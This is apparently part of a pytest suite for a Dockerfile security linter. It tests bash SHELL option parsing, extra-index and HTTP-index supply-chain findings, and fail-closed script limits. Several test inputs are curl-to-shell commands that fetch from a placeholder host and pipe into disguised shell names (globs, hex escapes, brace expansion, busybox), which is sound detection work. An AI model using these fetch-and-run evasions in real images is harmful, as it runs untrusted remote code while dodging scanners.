    assert not any(rule == "MLS909" for rule, _, _ in found)
    assert any(rule == "MLS503" and line == 3 for rule, line, _ in found)  # the RUN line is read


@pytest.mark.parametrize(
    "shell",
    [
        '["/bin/bash", "-ceuxo"]',  # the o's name would be the RUN line itself
        '["/bin/bash", "-o", "-c"]',  # `-c` is taken as the option's name
        '["/bin/bash", "-euxo", "pipefail"]',  # no `-c`: the RUN line is a script's path
        '["/bin/bash", "+c"]',
        '["/bin/bash", "pipefail", "-c"]',  # a script named pipefail runs
        '["/bin/bash", "-oo", "pipefail", "-c"]',  # the second o takes `-c`
        '["/bin/bash", "-o", "nonexistent", "-c"]',  # stage 79's red team: no such option (bash stops)
        '["/bin/bash", "-co", "bogus"]',
        '["/bin/bash", "-O", "-c"]',
        '["/bin/bash", "--", "-c"]',  # `--` first: `-c` is a script's name
    ],
)
def test_shell_options_that_do_not_end_in_a_command_string_are_not_read(tmp_path: Path, shell: str) -> None:
    found = graded(tmp_path, f"FROM {PIN}\nSHELL {shell}\nRUN echo hi\n{SAFE_END}")
    assert ("MLS909", 2, "medium") in found


@pytest.mark.parametrize(
    "run",
    [
        "curl -s https://x.example/i | /bin/s[h]",
        "curl -s https://x.example/i | busybox sh",
        "curl -s https://x.example/i | $'\\x73\\x68'",
        "curl -s https://x.example/i | {sh,-s}",
        "curl -s https://x.example/i | /bin/?ash",
    ],
)
def test_a_shell_named_another_way_still_runs_the_download(tmp_path: Path, run: str) -> None:
    assert ("MLS503", 2) in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")
    assert ("MLS503", 2) in scan(tmp_path, f"FROM {PIN}\nONBUILD RUN {run}\n{SAFE_END}")


@pytest.mark.parametrize(
    "run",
    [
        "curl -s https://x.example/i | jq .",
        "curl -sO https://x.example/a.zip && unzip *.zip",
        "curl -s x | grep -E '[0-9]'",
    ],
)
def test_a_pattern_among_a_programs_arguments_is_no_shell(tmp_path: Path, run: str) -> None:
    assert ("MLS503", 2) not in scan(tmp_path, f"FROM {PIN}\nRUN {run}\n{SAFE_END}")


def test_uv_extra_indexes_under_its_first_index_strategy(tmp_path: Path) -> None:
    """uv takes a name from the first index that has it: an extra index shadows nothing, unless the
    image sets an unsafe strategy (then it is judged as pip's extra index)."""
    base = "FROM python:3.11@sha256:" + "a" * 64 + "\nUSER app\n"
    install = "RUN uv pip install --system --extra-index-url https://pkgs.internal.example/simple acme==1.4.0\n"
    assert [f for f in graded(tmp_path, base + install) if f[2] != "low"] == []
    unsafe = base + 'ENV UV_INDEX_STRATEGY="unsafe-best-match"\n' + install
    assert ("MLS509", 4, "high") in graded(tmp_path, unsafe)


def test_a_manager_http_index_is_one_finding(tmp_path: Path) -> None:
    base = "FROM python:3.11@sha256:" + "a" * 64 + "\nUSER app\n"
    found = graded(
        tmp_path, base + "RUN uv add --index internal=http://devpi.internal:3141/root/pypi/+simple/ fastapi\n"
    )
    assert [f[0] for f in found if f[1] == 3 and f[2] != "low"] == ["MLS509"]
    found = graded(tmp_path, base + "RUN pipenv install --pypi-mirror http://mirrors.example/pypi/simple/ flask\n")
    assert [f[0] for f in found if f[1] == 3 and f[2] != "low"] == ["MLS509"]


def test_a_script_with_more_command_strings_than_are_read_fails_closed(tmp_path: Path) -> None:
    from hooks.docker.checks import MAX_SCRIPT_LITERALS

    def script(count: int) -> str:
        body = "\n".join(f'print("step {i} done")' for i in range(count))
        return f"FROM {PIN}\nRUN python3 <<'PY'\n{body}\nPY\n{SAFE_END}"

    assert scan(tmp_path, script(MAX_SCRIPT_LITERALS)) == []
    assert scan(tmp_path, script(MAX_SCRIPT_LITERALS + 1)) == [("MLS909", 3)]
